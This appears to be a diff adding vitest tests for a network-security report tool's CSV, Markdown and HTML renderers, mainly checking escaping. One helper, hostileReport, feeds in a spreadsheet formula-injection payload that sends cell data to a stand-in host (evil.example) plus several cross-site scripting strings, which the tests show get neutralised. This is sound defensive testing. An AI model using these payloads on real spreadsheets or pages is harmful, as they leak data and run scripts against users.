@@ -1,0 +1,186 @@
+import { describe, expect, it } from 'vitest';
+import { buildReportData } from '../../../src/reports/render/build-report-data';
+import { csvCell, renderCsvReport } from '../../../src/reports/render/csv-report.renderer';
+import { renderHtmlReport } from '../../../src/reports/render/html-report.renderer';
+import { renderMarkdownReport } from '../../../src/reports/render/markdown-report.renderer';
+import { CHART_BAR_COLOR, renderRejectedFlowsChart } from '../../../src/reports/render/rejected-flows-chart';
+import { REPORT_FORMATS, renderReport } from '../../../src/reports/render/report-renderers';
+import { sampleFinding } from '../integrations/sample-finding';
+import { sampleReportInput } from './sample-report-input';
+
+const report = buildReportData(sampleReportInput());
+
+/** Minimal RFC 4180 parser, written independently of the renderer, for round-trip checks. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') row.push(cell), (cell = '');
+    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
+    else cell += c;
+  }
+  return rows;
+}
+
+const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+
+function hostileReport() {
+  return buildReportData(
+    sampleReportInput({
+      title: 'Report <script>alert(1)</script> & "friends"',
+      targets: [{ id: 't', name: '<img src=x onerror=alert(1)>', accountId: '1', region: 'r' }],
+      findings: [
+        {
+          id: 'x',
+          targetId: '-2+3',
+          finding: sampleFinding({
+            fingerprint: '@SUM(1+1)',
+            traffic: { ...sampleFinding().traffic, peers: [{ address: '</td><script>x()</script>', records: 1 }] },
+            suggestedFix: { ...sampleFinding().suggestedFix!, awsCli: `${hostile}\nline two, with "quotes"`, risks: [{ kind: 'k', message: '<b>risk</b> | pipe' }] },
+          }),
+          status: 'open',
+          firstDetectedAt: '2026-11-01T01:00:00Z',
+          ticket: { system: 'jira', key: 'NET-1', url: 'javascript:alert(1)' },
+        },
+      ],
+      coverageGaps: [{ targetId: 't', resourceType: 'vpc', resourceId: 'vpc-1', reason: 'no <flow> log' }],
+    }),
+  );
+}
+
+describe('CSV renderer', () => {
+  it('writes a header and one CRLF-terminated row per finding that round-trips', () => {
+    const csv = renderCsvReport(report);
+    expect(csv.endsWith('\r\n')).toBe(true);
+    const rows = parseCsv(csv);
+    expect(rows[0]!.slice(0, 6)).toEqual(['fingerprint', 'target_id', 'status', 'lifecycle', 'classification', 'severity']);
+    expect(rows).toHaveLength(1 + report.findings.length);
+    const header = rows[0]!;
+    const first = Object.fromEntries(header.map((h, i) => [h, rows[1]![i]]));
+    expect(first).toMatchObject({ fingerprint: '3f6c1e0a9b2d4c7e', records: '15', fix_verified: 'true', ticket: 'NET-42' });
+    expect(first.aws_cli).toBe(report.findings[0]!.awsCli);
+  });
+
+  it('quotes commas, quotes and line breaks and neutralises formulas', () => {
+    expect(csvCell('plain')).toBe('plain');
+    expect(csvCell('a,b')).toBe('"a,b"');
+    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
+    expect(csvCell('two\nlines')).toBe('"two\nlines"');
+    expect(csvCell('=1+1')).toBe("'=1+1");
+    expect(csvCell('+1')).toBe("'+1");
+    expect(csvCell('-1')).toBe("'-1");
+    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvCell('\t=cmd')).toBe("'\t=cmd");
+    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
+    expect(csvCell(-5)).toBe('-5');
+    expect(csvCell(null)).toBe('');
+
+    const rows = parseCsv(renderCsvReport(hostileReport()));
+    const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]!]));
+    expect(row.fingerprint).toBe("'@SUM(1+1)");
+    expect(row.target_id).toBe("'-2+3");
+    expect(row.aws_cli).toBe(`'${hostile}\nline two, with "quotes"`);
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@]/);
+  });
+});
+
+describe('Markdown renderer', () => {
+  const md = renderMarkdownReport(report);
+
+  it('has the summary, services, peers, gaps and findings tables', () => {
+    expect(md.startsWith('# Nightly sgdoctor report\n')).toBe(true);
+    expect(md).toContain('| Measure | Value | Change |\n| --- | --- | --- |');
+    expect(md).toContain(`| Rejected records | ${report.totals.rejectedRecords} | — |`);
+    expect(md).toContain('| tcp/22 | 900 | 1 |');
+    expect(md).toContain('- subnet `subnet-0b` (target tgt-prod): no flow log captures REJECT traffic');
+    expect(md).toContain('[NET-42](https://example.atlassian.net/browse/NET-42)');
+    expect(md).toContain('```bash\naws ec2 authorize-security-group-ingress');
+    expect(md).toContain('```hcl\nresource "aws_vpc_security_group_ingress_rule"');
+    // every table row has the same number of cells as its header
+    const findingsTable = md.split('## Findings\n\n')[1]!.split('\n\n')[0]!.split('\n');
+    const cells = (line: string) => line.replace(/\\\|/g, '').split('|').length;
+    for (const line of findingsTable) expect(cells(line)).toBe(cells(findingsTable[0]!));
+  });
+
+  it('escapes pipes, line breaks and HTML inside cells', () => {
+    const out = renderMarkdownReport(hostileReport());
+    expect(out).toContain('# Report &lt;script&gt;alert(1)&lt;/script&gt; &amp; "friends"');
+    expect(out).toContain('- Risk: &lt;b&gt;risk&lt;/b&gt; | pipe');
+    expect(out).not.toContain('<script>');
+    const findingRow = out.split('\n').find((l) => l.startsWith('| high |'))!;
+    expect(findingRow.replace(/\\\|/g, '').split('|')).toHaveLength(10);
+  });
+
+  it('shows trend changes with sign and percent', () => {
+    const next = buildReportData(sampleReportInput({ id: 'r2', previous: buildReportData(sampleReportInput({ findings: [] })) }));
+    expect(renderMarkdownReport(next)).toMatch(/\| Open findings \| 2 \| \+2 \|/);
+  });
+});
+
+describe('HTML renderer', () => {
+  const html = renderHtmlReport(report);
+
+  it('is a self-contained page with no scripts or external resources', () => {
+    expect(html.startsWith('<!doctype html>')).toBe(true);
+    expect(html).not.toMatch(/<script|<link|src="http|@import|url\(/i);
+    expect(html).toContain('<style>');
+    expect(html).toContain('<svg');
+    expect(html.match(/<rect /g)).toHaveLength(24);
+    expect(html).toContain('Top blocked services');
+    expect(html).toContain('subnet-0b');
+    expect(html).toContain('<a href="https://example.atlassian.net/browse/NET-42">NET-42</a>');
+  });
+
+  it('escapes every value from the data', () => {
+    const out = renderHtmlReport(hostileReport());
+    expect(out).not.toContain('<script>');
+    expect(out).not.toContain('<img');
+    expect(out).not.toContain('javascript:');
+    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;friends&quot;');
+    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
+    expect(out).toContain('&lt;/td&gt;&lt;script&gt;x()&lt;/script&gt;');
+    expect(out).toContain('no &lt;flow&gt; log');
+    expect(out).toContain('ticket NET-1');
+  });
+
+  it('draws bars proportional to the series in the chart colour', () => {
+    const svg = renderRejectedFlowsChart({ bucketSeconds: 3600, points: [
+      { start: '2026-11-01T00:00:00Z', rejectedRecords: 50 },
+      { start: '2026-11-01T01:00:00Z', rejectedRecords: 100 },
+      { start: '2026-11-01T02:00:00Z', rejectedRecords: 0 },
+    ] }, { width: 400, height: 200 });
+    const heights = [...svg.matchAll(/<rect [^>]*height="([\d.]+)" fill="([^"]+)"/g)].map((m) => [Number(m[1]), m[2]]);
+    expect(heights.map(([, c]) => c)).toEqual([CHART_BAR_COLOR, CHART_BAR_COLOR, CHART_BAR_COLOR]);
+    expect(heights[0]![0]).toBeCloseTo((heights[1]![0] as number) / 2, 1);
+    expect(heights[2]![0]).toBe(0);
+    expect(svg).toContain('>100<');
+    expect(svg).toContain('11-01 00:00');
+  });
+});
+
+describe('renderReport', () => {
+  it('renders every format with its content type', () => {
+    expect(REPORT_FORMATS).toEqual(['json', 'csv', 'markdown', 'html']);
+    const json = renderReport(report, 'json');
+    expect(json.contentType).toBe('application/json; charset=utf-8');
+    expect(JSON.parse(json.body)).toEqual(report);
+    expect(renderReport(report, 'csv')).toMatchObject({ extension: 'csv', contentType: expect.stringContaining('text/csv') });
+    expect(renderReport(report, 'markdown').extension).toBe('md');
+    expect(renderReport(report, 'html').body).toContain('</html>');
+  });
+
+  it('renders a report with no findings and no traffic', () => {
+    const empty = buildReportData(sampleReportInput({ findings: [], rejectedFlows: [], coverageGaps: [] }));
+    for (const format of REPORT_FORMATS) expect(renderReport(empty, format).body.length).toBeGreaterThan(0);
+    expect(renderHtmlReport(empty)).toContain('No findings.');
+    expect(renderCsvReport(empty).split('\r\n')).toHaveLength(2);
+  });
+});
